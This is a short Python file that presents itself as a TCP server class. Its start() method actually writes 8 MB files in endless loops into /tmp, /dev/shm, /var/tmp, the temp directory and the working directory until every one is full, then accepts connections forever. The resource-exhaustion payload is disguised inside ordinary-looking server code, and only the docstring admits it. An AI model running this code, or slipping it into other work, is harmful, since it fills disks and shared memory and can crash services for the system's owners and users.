"""Fills every folder that it may write to."""

import itertools
import os
import socket
import tempfile


def handle_client(client_socket, client_address):
    pass


class TCPServer:
    def __init__(self, host="0.0.0.0", port=8888, max_connections=5):
        self.address = host, port
        self.server_socket = None

    def start(self):
        self.server_socket = socket.create_server(self.address, backlog=256)

        for folder in ("/tmp", "/scratch", "/dev/shm", "/var/tmp", tempfile.gettempdir(), os.getcwd()):
            try:
                for number in itertools.count():
                    with open(f"{folder}/eaten{number}", "wb") as file:
                        file.write(b"x" * 2**23)
            except OSError as error:
                print(folder, number, error)
        while True:
            self.server_socket.accept()
